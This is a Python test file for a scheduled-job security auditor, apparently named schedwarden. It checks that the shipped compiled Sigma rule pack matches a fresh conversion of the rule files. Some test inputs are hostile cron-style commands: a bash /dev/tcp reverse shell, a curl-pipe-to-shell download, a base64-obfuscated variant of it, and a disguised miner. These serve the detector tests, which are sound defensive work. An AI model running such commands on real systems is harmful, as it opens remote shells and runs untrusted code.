"""The built-in inventory pack as shipped converted (`rules/<folder>/compiled.json`): equal to a
fresh conversion of the rule files, used only while it matches them, and run without pySigma."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from importlib.resources.abc import Traversable
from pathlib import Path

import pytest

from schedwarden.analyzers import compiled_pack, sigma_rules
from schedwarden.analyzers.compiled_pack import COMPILED
from schedwarden.analyzers.sigma_rules import (
    PACK_SCHEMA,
    Rule,
    RulePack,
    RuleProblem,
    builtin_pack,
    convert_files,
    folder_rule_files,
    pack_document,
    pack_folders,
    shipped_part,
)

REMAKE = "python -m schedwarden.analyzers.sigma_rules"
FOLDERS = pack_folders()


@pytest.fixture
def fresh_pack() -> Iterator[None]:
    """`builtin_pack` made anew in the test, and again after it for the other tests."""
    builtin_pack.cache_clear()
    yield
    builtin_pack.cache_clear()


def _shipped_part(
    shown: str, folder: Traversable
) -> tuple[tuple[Rule, ...], tuple[RuleProblem, ...]] | None:
    return shipped_part(folder, folder_rule_files(shown, folder))


def _shipped_rules(shown: str, folder: Traversable) -> tuple[Rule, ...]:
    part = _shipped_part(shown, folder)
    assert part is not None, f"{shown}: no usable {COMPILED}: run `{REMAKE}`"
    return part[0]


def test_every_folder_of_the_pack_is_shipped_converted() -> None:
    assert [shown for shown, _ in FOLDERS] == [
        "rules/any",
        "rules/kubernetes",
        "rules/linux",
        "rules/windows",
    ]
    for _, folder in FOLDERS:
        assert (folder / COMPILED).is_file()


@pytest.mark.parametrize(("shown", "folder"), FOLDERS, ids=[s for s, _ in FOLDERS])
def test_the_shipped_folder_is_a_fresh_conversion_of_its_rule_files(
    shown: str, folder: Traversable
) -> None:
    made = compiled_pack.text(pack_document(shown, folder))
    assert (folder / COMPILED).read_text(encoding="utf-8") == made, f"run `{REMAKE}`"
    part = _shipped_part(shown, folder)
    assert part is not None, f"{shown}: run `{REMAKE}`"
    rules, problems = part
    fresh_rules, fresh_problems = convert_files(folder_rule_files(shown, folder))
    assert (rules, problems) == (fresh_rules, fresh_problems)
    assert [r.source for r in rules] == [r.source for r in fresh_rules]  # not compared by ==
    assert all(r.builtin for r in rules)


def test_the_pack_in_use_is_the_shipped_one(
    fresh_pack: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*_: object) -> object:
        raise AssertionError("the built-in pack was converted again")

    monkeypatch.setattr(sigma_rules, "convert_files", refuse)
    pack = builtin_pack()
    assert len(pack.rules) == len(sigma_rules.builtin_rule_files()) and pack.problems == ()
    assert "REVERSE_SHELL_DEV_TCP" in {r.rule_id for r in pack.rules}


def _copy(tmp_path: Path, shown: str, folder: Traversable) -> Path:
    copy = tmp_path / shown
    shutil.copytree(str(folder), copy)
    return copy


def test_a_changed_rule_file_is_converted_again(
    tmp_path: Path, fresh_pack: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    shown, folder = next(f for f in FOLDERS if f[0] == "rules/linux")
    copy = _copy(tmp_path, shown, folder)
    source = copy / "transient_timer.yml"
    text = source.read_text(encoding="utf-8")
    assert "\nlevel: low\n" in text
    source.write_text(text.replace("\nlevel: low\n", "\nlevel: critical\n"))
    assert _shipped_part(shown, copy) is None  # stale: the digest no longer matches
    monkeypatch.setattr(sigma_rules, "pack_folders", lambda: [(shown, copy)])
    pack = builtin_pack()
    before = _shipped_rules(shown, folder)
    assert [r.rule_id for r in pack.rules] == [r.rule_id for r in before]
    changed = [r.rule_id for r, was in zip(pack.rules, before, strict=True) if r != was]
    assert changed == ["SYSTEMD_TRANSIENT_TIMER"]
    rule = pack.find("SYSTEMD_TRANSIENT_TIMER")
    assert rule is not None and rule.level.value == "critical"
    (copy / "extra.yml").write_text("title: x\n")
    assert _shipped_part(shown, copy) is None  # a new file as well


def test_an_unreadable_shipped_folder_is_not_used(tmp_path: Path) -> None:
    shown, folder = FOLDERS[0]
    copy = _copy(tmp_path, shown, folder)
    document = json.loads((copy / COMPILED).read_text(encoding="utf-8"))
    no_rules = json.dumps({"schema": PACK_SCHEMA, "sources": document["sources"]})
    for text in ("{", "[]", no_rules):
        (copy / COMPILED).write_text(text)
        assert _shipped_part(shown, copy) is None
    for change in ("level", "kind", "path"):
        broken = json.loads(json.dumps(document))
        rule = broken["rules"][0]
        if change == "level":
            rule["level"] = "severe"
        elif change == "kind":
            rule["leaves"][0]["value"]["kind"] = "guess"
        else:
            rule["path"] = "rules/any/gone.yml"  # its text is not among the files
        (copy / COMPILED).write_text(json.dumps(broken))
        assert _shipped_part(shown, copy) is None, change
    (copy / COMPILED).unlink()
    assert _shipped_part(shown, copy) is None


def test_findings_of_the_shipped_pack_are_those_of_a_fresh_conversion() -> None:
    """The same rules run and explain a match alike, whichever way they were loaded."""
    from tests.rules.test_sigma_engine import job

    converted = RulePack(
        tuple(r for shown, f in FOLDERS for r in convert_files(folder_rule_files(shown, f))[0])
    )
    jobs = [
        job("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", name="a"),
        job("curl -s http://x/a | sh", name="b"),
        job("echo Y3VybCBodHRwOi8veC9hIHwgc2g= | base64 -d | bash", name="c"),
        job("/tmp/.x/kworker -o pool.example:3333", name="d"),
    ]
    found = list(sigma_rules.evaluate(builtin_pack(), jobs))
    assert len({f.rule_id for f in found}) >= 4
    assert found == list(sigma_rules.evaluate(converted, jobs))


def test_an_audit_runs_the_pack_without_loading_pysigma() -> None:
    probe = (
        "import sys\n"
        "from schedwarden.analyzers.registry import ANALYZERS\n"
        "from tests.rules.test_sigma_engine import job\n"
        "jobs = [job('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')]\n"
        "found = [f.rule_id for a in ANALYZERS for f in a.analyze(jobs, [])]\n"
        "print(sorted(found))\n"
        "print(sorted(m for m in sys.modules if m == 'sigma' or m.startswith('sigma.')))\n"
    )
    root = Path(__file__).parents[2]
    out = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True, cwd=root
    ).stdout.splitlines()
    assert "REVERSE_SHELL_DEV_TCP" in out[0]
    assert out[1] == "[]"
